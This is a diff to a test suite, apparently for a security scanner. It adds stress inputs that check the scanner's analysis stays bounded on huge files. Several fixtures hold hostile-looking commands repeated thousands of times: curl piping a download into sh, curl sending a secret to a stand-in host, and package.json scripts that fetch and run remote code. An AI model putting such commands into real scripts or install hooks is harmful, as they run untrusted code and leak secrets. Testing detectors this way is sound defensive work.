@@ -33,6 +33,8 @@ const NAMES = [
   'x.pth',
 ];
 
+const NUMBERS = Array.from({ length: runs(40_000) }, (_, n) => n);
+
 /** Real code to mutate: our own, and the cases of the rules. */
 const SOURCES = [...ownSources(), ...caseSources()].filter((text) => text.length < 20_000);
 
@@ -137,6 +139,10 @@ describe('checks', { timeout: 300_000 }, () => {
     ['b.sh', 'curl ${{secrets.A}} http://x.io|'.repeat(runs(25_000))],
     ['c.sh', 'curl https://x.io/i|sh\n'.repeat(runs(35_000))],
     ['a.py', `import a${'.a'.repeat(runs(400_000))}`],
+    ['b.py', 'a '.repeat(runs(400_000))],
+    ['b.js', '/**/'.repeat(runs(200_000))],
+    ['package.json', `{"scripts":{${NUMBERS.map((n) => `"a${n}":"curl x.io|sh"`).join()}}}`],
+    ['b.md', '[a](b "c")\n|a|b|\n'.repeat(runs(50_000))],
     ['a.js', `const x='${'a?(b)'.repeat(3_900)}';${'fetch(x);exec(x);'.repeat(runs(40_000))}`],
   ])('are bounded on %s', (path, text) => {
     expect(judged({ [path]: text })).toEqual(expect.any(Array));
